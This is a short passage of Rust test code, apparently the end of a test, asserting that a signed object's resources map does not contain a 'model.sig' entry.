    assert!(!signed.resources.contains_key("model.sig"));
}
